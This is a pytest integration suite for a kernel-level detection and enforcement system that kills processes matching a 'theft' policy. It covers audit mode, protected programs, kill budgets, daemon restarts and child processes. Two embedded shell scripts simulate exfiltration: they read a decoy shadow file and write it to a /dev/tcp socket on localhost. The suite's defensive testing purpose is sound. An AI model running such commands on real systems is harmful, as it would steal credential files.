"""An attack on the real kernel, and what is done about it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.support.arena import THEFT, Arena, eventually, killed


def by(pid: int) -> Callable[[dict[str, Any]], bool]:
    """An alert on that process."""
    return lambda alert: alert.get("process", {}).get("pid") == pid


pytestmark = pytest.mark.timeout(90)


def test_the_last_step_ends_the_attacker_and_the_alert_tells_the_story(tmp_path: Path, collector: int) -> None:
    with Arena(tmp_path, enforcer={"capture_interface": "lo"}) as arena:
        attack = arena.attack(collector)
        attack.step(2)
        orders = tmp_path / "state" / "enforcer" / "orders.jsonl"
        eventually(lambda: orders.exists() and '"capturing"' in orders.read_text())
        attack.step()
        assert killed(attack.wait())
        alert = arena.await_alert(by(attack.pid))
        own = alert["execray"]
        assert own["action"]["kill"]["result"] == "killed"
        assert own["action"]["kill"]["by"] == "enforcer"
        assert [step["events"][0]["event"] for step in own["trail"]] == ["open", "connect", "write"]
        assert own["trail"][0]["events"][0]["path"] == str(arena.decoy)
        assert own["trail"][1]["events"][0]["dst.port"] == collector
        assert not own["tainted"] and not own["degraded"] and not own["partial_evidence"]
        assert alert["process"]["executable"] == str(arena.attacker)
        # the evidence: a pcap that holds the victim's own flow, its last segment included
        eventually(lambda: arena.status("enforcer")["captures"]["running"] == 0)
        (pcap,) = (tmp_path / "state" / "captures").glob("*.pcap")
        read = subprocess.run(["tcpdump", "-nn", "-A", "-r", pcap], capture_output=True, check=True).stdout
        assert f"127.0.0.1.{collector}".encode() in read
        assert b"root:$6$decoy" in read
        assert pcap.stat().st_mode & 0o777 == 0o600
        lines = [json.loads(line) for line in orders.read_text().splitlines()]
        ordered = [line["order"]["process"]["pid"] for line in lines if line["what"] == "order"]
        results = [line["outcome"]["result"] for line in lines if line["what"] == "outcome"]
        assert ordered == [attack.pid, attack.pid]
        assert sorted(results) == ["captured", "capturing", "killed"]


def test_steps_in_another_order_or_by_another_process_are_nobodys_business(tmp_path: Path, collector: int) -> None:
    with Arena(tmp_path) as arena:
        first, second = arena.attack(collector), arena.attack(collector)
        first.step(1)  # opens, never connects
        script = 'exec 3<> "/dev/tcp/127.0.0.1/$1"; printf "root:x" >&3; read -r s < decoy/shadow; echo done'
        done = subprocess.run(
            [arena.attacker, "-c", script, "x", str(collector)],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=True,
        )
        assert done.stdout == "done\n"
        second.step(3)
        assert killed(second.wait())  # the policy does work
        assert first.process.poll() is None
        arena.await_alert(by(second.pid))
        assert [a["process"]["pid"] for a in arena.alerts()] == [second.pid]


@pytest.mark.parametrize("who", ["host", "policy"])
def test_audit_reports_and_kills_nobody(tmp_path: Path, collector: int, who: str) -> None:
    policy = THEFT.replace("response enforce", "response audit") if who == "policy" else THEFT
    with Arena(tmp_path, policy, mode="audit" if who == "host" else "enforce") as arena:
        attack = arena.attack(collector)
        attack.step(3)
        alert = arena.await_alert(by(attack.pid))
        attack.step()
        assert attack.wait() == 0
        assert alert["execray"]["action"]["kill"]["result"] == "would_kill"
        assert arena.status("enforcer")["killed"] == 0


def test_a_protected_program_is_never_killed(tmp_path: Path, collector: int) -> None:
    with Arena(tmp_path, protect_exe=[str(tmp_path / "attacker")]) as arena:
        attack = arena.attack(collector)
        attack.step(3)
        alert = arena.await_alert(by(attack.pid))
        attack.step()
        assert attack.wait() == 0
        kill = alert["execray"]["action"]["kill"]
        assert kill["result"] == "refused" and "protect" in json.dumps(kill)


def test_past_the_budget_nobody_is_killed(tmp_path: Path, collector: int) -> None:
    with Arena(tmp_path, enforcer={"kills_per_minute": 1}) as arena:
        first, second = arena.attack(collector), arena.attack(collector)
        first.step(3)
        assert killed(first.wait())
        second.step(3)
        alert = arena.await_alert(by(second.pid))
        second.step()
        assert second.wait() == 0
        assert alert["execray"]["action"]["kill"]["result"] == "refused"


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP])
def test_without_an_enforcer_policyd_kills_by_itself(tmp_path: Path, collector: int, number: int) -> None:
    with Arena(tmp_path) as arena:
        if number == signal.SIGSTOP:
            os.kill(arena.stack.pid("enforcer"), number)  # there, but silent: the order times out
        else:
            arena.stack.stop("enforcer", number)
        attack = arena.attack(collector)
        attack.step(3)
        assert killed(attack.wait())
        alert = arena.await_alert(by(attack.pid))
        kill = alert["execray"]["action"]["kill"]
        assert (kill["result"], kill["by"]) == ("killed", "policyd")
        if number == signal.SIGSTOP:
            os.kill(arena.stack.pid("enforcer"), signal.SIGCONT)


@pytest.mark.parametrize("daemon", ["tracerd", "policyd", "enforcer"])
def test_any_daemon_may_die_and_come_back(tmp_path: Path, collector: int, daemon: str) -> None:
    with Arena(tmp_path) as arena:
        others = {name: arena.stack.pid(name) for name in ("tracerd", "policyd", "enforcer") if name != daemon}
        arena.stack.stop(daemon, signal.SIGKILL)
        arena.stack.start(daemon)
        arena.await_watching()
        eventually(lambda: arena.status("policyd")["stream"]["connected"])
        assert all(arena.stack.running(name) and arena.stack.pid(name) == pid for name, pid in others.items())
        bystander = arena.attack(collector)
        attack = arena.attack(collector)
        attack.step(3)
        assert killed(attack.wait())
        alert = arena.await_alert(by(attack.pid))
        assert alert["execray"]["action"]["kill"]["result"] == "killed"
        assert bystander.process.poll() is None
        assert len([a for a in arena.alerts() if by(attack.pid)(a)]) == 1


def test_a_child_finishes_what_its_parent_began(tmp_path: Path, collector: int) -> None:
    policy = THEFT.replace("key process", "key tree")
    with Arena(tmp_path, policy) as arena:
        script = """
            ( sleep 0.5; exec 3<> "/dev/tcp/127.0.0.1/$1"; read -r s < loot; printf '%s' "$s" >&3; sleep 5 ) &
            read -r s < decoy/shadow; printf '%s\\n' "$s" > loot; wait; echo parent lives
        """
        done = subprocess.run(
            [arena.attacker, "-c", script, "x", str(collector)],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=False,
        )
        # the child was forked before the parent's open, and it is the child that completes the story
        assert done.stdout == "parent lives\n"
        alert = arena.await_alert(lambda a: a["execray"]["policy"] == "theft")
        assert alert["execray"]["action"]["kill"]["result"] == "killed"
        opened, _, written = alert["execray"]["trail"]
        assert opened["events"][0]["pid"] != written["events"][0]["pid"] == alert["process"]["pid"]
